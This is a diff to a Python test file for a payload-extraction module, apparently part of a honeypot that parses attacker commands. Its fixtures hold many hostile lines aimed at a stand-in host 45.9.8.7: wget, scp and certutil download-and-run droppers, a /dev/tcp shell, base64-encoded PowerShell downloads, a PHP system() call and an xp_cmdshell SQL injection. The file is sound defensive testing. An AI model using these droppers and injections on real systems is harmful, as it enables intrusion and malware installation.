@@ -6,6 +6,8 @@ from __future__ import annotations
 import base64
 import gzip
 import re
+import subprocess
+import sys
 
 import pytest
 from hypothesis import given, settings
@@ -13,7 +15,7 @@ from hypothesis import strategies as st
 
 from eudaemon.payload import extract as extract_module
 from eudaemon.payload.extract import DOWNLOADS_MAX, TEXTS_MAX, Extraction, extract
-from eudaemon.payload.fragments import FRAGMENTS_MAX, fragments, urls
+from eudaemon.payload.fragments import FRAGMENTS_MAX, WINDOWS_PIECES_MAX, fragments, urls, windows
 from eudaemon.world.host import Host
 from eudaemon.world.seed import Seed
 
@@ -46,6 +48,12 @@ ROWS: list[tuple[str, bytes, list[str]]] = [
     ("ftpget", b"ftpget -v -u anonymous -p anonymous -P 21 45.9.8.7 ftp1.sh ftp1.sh",
      ["ftp://anonymous:anonymous@45.9.8.7/ftp1.sh"]),
     ("dev tcp", b"exec 3<>/dev/tcp/45.9.8.7/8080; cat <&3 > /tmp/x", ["tcp://45.9.8.7:8080/"]),
+    ("UNC path", rb"rundll32.exe \\45.9.8.7\share\dir\x.dll,Start", ["smb://45.9.8.7/share/dir/x.dll"]),
+    ("no UNC paths", rb"\\x41\\x42 \\host\share\x \\45.9.8.7\share", []),
+    ("escaped UNC path", rb'{"a": "\\\\45.9.8.7\\share\\x.exe"}', ["smb://45.9.8.7/share/x.exe"]),
+    ("smb", b"copy smb://45.9.8.7/share/x.exe", ["smb://45.9.8.7/share/x.exe"]),
+    ("rcp", b"rcp -p bin@45.9.8.7:/tmp/x .; sh x", ["rcp://bin@45.9.8.7//tmp/x"]),
+    ("scp", b"scp -o x root@45.9.8.7:x .; scp root@45.9.8.7:bot /tmp/b", ["scp://root@45.9.8.7/bot"]),
     ("variables", b"H=45.9.8.7; for a in arm mips; do wget http://$H/$a; done", [f"{H}/arm", f"{H}/mips"]),
     ("IFS", b"wget${IFS}http://45.9.8.7/x${IFS}-O${IFS}/tmp/x", [f"{H}/x"]),
     ("IFS behind a URL that no shell reads", b"x http://45.9.8.7/x$IFS-O y", [f"{H}/x"]),
@@ -205,3 +213,41 @@ def test_pieces_and_urls_of_one_text_are_limited() -> None:
 @given(st.binary(max_size=400) | st.text("wget curl;|&$(){}`'\"<>\\=/%20http://a.b\n[]", max_size=120).map(str.encode))
 def test_no_payload_is_our_fault(payload: bytes) -> None:
     assert isinstance(extract(payload, HOST), Extraction)
+
+
+POWER = "(New-Object Net.WebClient).DownloadFile(('ht'+'tp://45.9.8.7/')+'p.exe','p.exe')"
+ENCODED = base64.b64encode(POWER.encode("utf-16-le")).decode()
+
+
+@pytest.mark.parametrize("payload", [
+    f"GET /x.php?a=1&cmd=cmd.exe%20/c%20powershell%20-enc%20{ENCODED} HTTP/1.1\r\n\r\n",
+    f"<cmd>powershell -nop -w hidden -e {ENCODED}</cmd>",
+    "<?php system('cmd /c \"set h=45.9.8.7&call certutil -urlcache -f http://%h%/p.exe p.exe\"');",
+    f"$ErrorActionPreference='SilentlyContinue'\n$env:TEMP | Out-Null\n{POWER}\nStart-Process p.exe\n",
+    f"iex {POWER}",
+    "@echo off\r\nset h=45.9.8.7\r\ncertutil -urlcache -split -f http://%h%/p.exe %TEMP%\\p.exe\r\nstart %TEMP%\\p.exe\r\n",
+    "x'; EXEC xp_cmdshell 'mshta http://45.9.8.7/p.exe';--",
+])  # fmt: skip
+def test_what_is_meant_for_windows(payload: str) -> None:
+    found = extract(payload.encode(), HOST)
+    assert f"{H}/p.exe" in [download.url for download in found.downloads]
+    assert found.commands
+
+
+def test_windows_is_not_loaded_for_what_is_none_of_its() -> None:
+    code = (
+        "import sys; from eudaemon.payload.extract import extract; from eudaemon.world.host import Host;"
+        "from eudaemon.world.seed import Seed; host = Host.from_seed(Seed(b'x'));"
+        "extract(b'cd /tmp; wget http://192.0.2.9/x; sh x', host); print('eudaemon.world.windows.engine' in sys.modules);"
+        "extract(b'powershell iwr http://192.0.2.9/x -o y', host); print('eudaemon.world.windows.engine' in sys.modules)"
+    )
+    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True,
+                          env={"PYTHONPATH": ":".join(sys.path)})  # fmt: skip
+    assert done.stdout.split() == ["False", "True"]
+
+
+def test_pieces_for_windows_are_limited_and_cost_no_more_than_is_said() -> None:
+    text = b"\n".join(b"certutil -urlcache -f http://%d.45.9.8.7.example/%%cd%% x" % number for number in range(99))
+    assert len(list(windows(text))) == WINDOWS_PIECES_MAX
+    extract(b"powershell while(1){$a='b'*9999}\n" * 50, HOST)
+    extract(b"powershell -c iex " + b"(" * 5000, HOST)
